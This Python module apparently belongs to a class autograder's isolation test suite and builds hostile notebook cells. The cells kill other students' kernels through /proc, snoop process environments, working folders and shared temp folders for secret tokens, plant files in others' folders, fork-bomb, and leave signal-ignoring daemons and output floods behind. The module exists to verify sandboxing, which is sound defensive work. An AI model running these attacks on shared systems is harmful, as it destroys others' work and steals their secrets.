"""Hostile code for the class grader's tamper suite, as notebook cells (or scripts).

Each attack is the source of one code cell that a hostile student adds to an otherwise
correct submission. It works as hard as it can for a while, so that it overlaps the jobs
graded beside it, and then prints what it achieved as one line ``ATTACK-REPORT {json}``,
which the test reads back from the autograded notebook. The same sources run as plain
scripts in the positive controls, which show that each attack does harm where nothing stops
it (same user, no namespaces): a pass of the suite then means the isolation stopped it.

Honest students in the suite keep a secret (``SECRET-`` and 16 hex digits) in their data
folder, their home, the shared ``/tmp`` and (readable by all) ``/dev/shm``; a snooper succeeds
if it reads any such token.
"""

from __future__ import annotations

import json
import re
import secrets
import textwrap
from pathlib import Path

import nbformat

REPORT = "ATTACK-REPORT "
SECRET = re.compile(r"SECRET-[0-9a-f]{16}")


def new_secret() -> str:
    return f"SECRET-{secrets.token_hex(8)}"


def _cell(body: str, **values: object) -> str:
    """``body`` run inside a function (no names leak into the notebook) with ``values``."""
    arguments = ", ".join(f"{name}={value!r}" for name, value in values.items())
    body = textwrap.indent(textwrap.dedent(body), "    ")
    return f"def _attack({arguments}):\n{body}\n_attack()\n"


def killer(seconds: float) -> str:
    """Walk ``/proc`` and SIGKILL every other ipykernel, again and again, for ``seconds``
    (sparing the processes whose ids are command-line arguments: a lingerer's own kernel)."""
    return _cell(
        """\
        import json, os, signal, sys, time
        spare = {os.getpid()} | {int(arg) for arg in sys.argv[1:] if arg.isdigit()}
        start = time.time()
        seen, killed, refused = set(), set(), set()
        while time.time() - start < seconds:
            for name in os.listdir("/proc"):
                if not name.isdigit() or int(name) in spare:
                    continue
                try:
                    with open(f"/proc/{name}/cmdline", "rb") as handle:
                        if b"ipykernel" not in handle.read():
                            continue
                except OSError:
                    continue
                seen.add(int(name))
                try:
                    os.kill(int(name), signal.SIGKILL)
                    killed.add(int(name))
                except OSError:
                    refused.add(int(name))
            time.sleep(0.05)
        report = {"attack": "killer", "start": start, "end": time.time(), "seen": len(seen),
                  "killed": len(killed), "refused": len(refused)}
        print("ATTACK-REPORT " + json.dumps(report), flush=True)
        """,
        seconds=seconds,
    )


def snooper(seconds: float) -> str:
    """For ``seconds``: read every process's ``environ``, ``cwd`` and memory, the data folders
    named there and next to its own, and the shared temporary folders; plant a file in every
    other data folder it can; report every secret token it read."""
    return _cell(
        r"""
        import json, os, re, time
        me, start = os.getpid(), time.time()
        own = os.environ.get("GAN_COURSE_DATA", "")
        token = re.compile(rb"SECRET-[0-9a-f]{16}")
        found = {key: set() for key in ("environ", "cwd", "memory", "folders", "listed",
                                        "written", "secrets")}

        def read(path):
            try:
                with open(path, "rb") as handle:
                    found["secrets"].update(t.decode() for t in token.findall(handle.read(1 << 16)))
            except OSError:
                pass

        def explore(folder, depth):
            try:
                names = os.listdir(folder)
            except OSError:
                return
            found["listed"].add(folder)
            for name in names[:500]:
                path = os.path.join(folder, name)
                if os.path.isdir(path) and not os.path.islink(path):
                    if depth:
                        explore(path, depth - 1)
                elif os.path.isfile(path):
                    read(path)

        while time.time() - start < seconds:
            for name in os.listdir("/proc"):
                if not name.isdigit() or int(name) == me:
                    continue
                try:
                    with open(f"/proc/{name}/environ", "rb") as handle:
                        environ = handle.read()
                    found["environ"].add(int(name))
                    found["secrets"].update(t.decode() for t in token.findall(environ))
                    for item in environ.split(b"\0"):
                        if item.startswith(b"GAN_COURSE_DATA=") and item[16:].decode() != own:
                            found["folders"].add(item[16:].decode())
                except OSError:
                    pass
                try:
                    explore(os.readlink(f"/proc/{name}/cwd"), 1)
                    found["cwd"].add(int(name))
                except OSError:
                    pass
                try:
                    os.close(os.open(f"/proc/{name}/mem", os.O_RDONLY))
                    found["memory"].add(int(name))
                except OSError:
                    pass
            if own:  # the other jobs next to ours: <jobs>/<job>/data
                job = os.path.dirname(own)
                jobs = os.path.dirname(job)
                try:
                    siblings = os.listdir(jobs)
                except OSError:
                    siblings = []
                for sibling in siblings:
                    if os.path.join(jobs, sibling) != job:
                        found["folders"].add(os.path.join(jobs, sibling, "data"))
            for folder in list(found["folders"]):
                explore(folder, 2)
                try:
                    with open(os.path.join(folder, "planted-by-snooper.txt"), "w") as handle:
                        handle.write("planted")
                    found["written"].add(folder)
                except OSError:
                    pass
            for folder in ("/tmp", "/var/tmp", "/dev/shm"):
                explore(folder, 1)
            time.sleep(0.2)
        with open("/proc/self/status") as handle:  # 1: no setuid program gives rights back
            status = dict(line.split(":", 1) for line in handle if ":" in line)
        report = {"attack": "snooper", "start": start, "end": time.time(),
                  "no_new_privs": int(status.get("NoNewPrivs", "0"))}
        report |= {key: sorted(value) if key in ("secrets", "written", "folders") else len(value)
                   for key, value in found.items()}
        print("ATTACK-REPORT " + json.dumps(report), flush=True)
        """,
        seconds=seconds,
    )


def forker(seconds: float) -> str:
    """Fork sleeping children until the process cap refuses, and hold them for ``seconds``."""
    return _cell(
        """\
        import json, os, time
        start, children, refused = time.time(), [], False
        while len(children) < 4096:
            try:
                pid = os.fork()
            except OSError:
                refused = True
                break
            if pid == 0:
                time.sleep(seconds + 60)
                os._exit(0)
            children.append(pid)
        time.sleep(seconds)
        report = {"attack": "forker", "start": start, "end": time.time(),
                  "forked": len(children), "refused": refused}
        print("ATTACK-REPORT " + json.dumps(report), flush=True)
        """,
        seconds=seconds,
    )


def lingerer(marker: str, seconds: float = 900) -> str:
    """Leave processes behind that would outlive the job: a double-forked killer in a session
    of its own (sparing this kernel, so that the job itself ends normally), a ``setsid`` shell
    that sleeps, a sleeper that ignores SIGTERM and SIGHUP. Each has ``marker`` in its command
    line."""
    return _cell(
        """\
        import json, os, subprocess, sys
        quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, start_new_session=True)
        kernel = str(os.getpid())
        pid = os.fork()
        if pid == 0:  # a daemon: new session, second fork, no inherited pipes
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.execv(sys.executable, [sys.executable, "-c", killer, marker, kernel])
            os._exit(0)
        os.waitpid(pid, 0)
        subprocess.Popen(["setsid", "sh", "-c", f"sleep {seconds:.0f}; : {marker}"], **quiet)
        stubborn = ("import signal, time\\n"
                    "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\\n"
                    "    signal.signal(s, signal.SIG_IGN)\\n"
                    f"time.sleep({seconds})")
        subprocess.Popen([sys.executable, "-c", stubborn, marker], **quiet)
        print("ATTACK-REPORT " + json.dumps({"attack": "lingerer", "left": 3}), flush=True)
        """,
        marker=marker,
        seconds=seconds,
        killer=killer(seconds),
    )


def flood(megabytes: int) -> str:
    """Print about ``megabytes`` MB (many writes, one huge print, raw writes to file
    descriptor 1), display thousands of outputs, and raise an exception with a huge message."""
    third = megabytes * 1_000_000 // 3
    cell = _cell(
        """\
        import os, sys
        from IPython.display import display
        sys.stdout.write("FLOOD-HEAD\\n")
        chunk = "f" * 999_999 + "\\n"
        for _ in range(third // len(chunk)):
            sys.stdout.write(chunk)
        print("p" * third)
        sys.stdout.flush()
        os.write(1, b"w" * third)
        for index in range(3000):
            display({"text/plain": f"display {index} " + "d" * 1000}, raw=True)
        print("FLOOD-TAIL", flush=True)
        """,
        third=third,
    )
    return cell + 'raise ValueError("e" * 50_000_000)\n'


def honest(secret: str, hold: float) -> str:
    """An honest student's extra cell: keep ``secret`` in the data folder, the home, the
    temporary folder and the shared ``/tmp``, and world-readable in ``/dev/shm`` (only a
    private ``/dev/shm`` per job hides that one), and stay busy for ``hold`` seconds."""
    return _cell(
        """\
        import os, pathlib, tempfile, time
        places = (os.environ["GAN_COURSE_DATA"], pathlib.Path.home(), tempfile.gettempdir(),
                  "/tmp")
        for folder in places:
            (pathlib.Path(folder) / f"secret-{secret}.txt").write_text(secret)
        # careless: readable by anyone who can see the host's shared memory
        shared = pathlib.Path("/dev/shm") / f"secret-{secret}.txt"
        shared.write_text(secret)
        shared.chmod(0o644)
        time.sleep(hold)
        """,
        secret=secret,
        hold=hold,
    )


def with_cell(notebook: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    """``notebook`` with a plain (ungraded) code cell ``source`` before its first cell."""
    notebook = nbformat.from_dict(json.loads(nbformat.writes(notebook)))
    notebook.cells.insert(0, nbformat.v4.new_code_cell(source))
    return notebook


def reports(notebook: Path) -> list[dict]:
    """The ``ATTACK-REPORT`` lines printed in ``notebook``'s outputs."""
    found = []
    for cell in nbformat.read(notebook, as_version=4).cells:
        for output in cell.get("outputs", []):
            for line in str(output.get("text", "")).splitlines():
                if line.startswith(REPORT):
                    found.append(json.loads(line[len(REPORT) :]))
    return found


def report_line(stdout: str) -> dict:
    """The report a script printed (the positive controls)."""
    lines = [line for line in stdout.splitlines() if line.startswith(REPORT)]
    assert len(lines) == 1, stdout[-2000:]
    return json.loads(lines[0][len(REPORT) :])
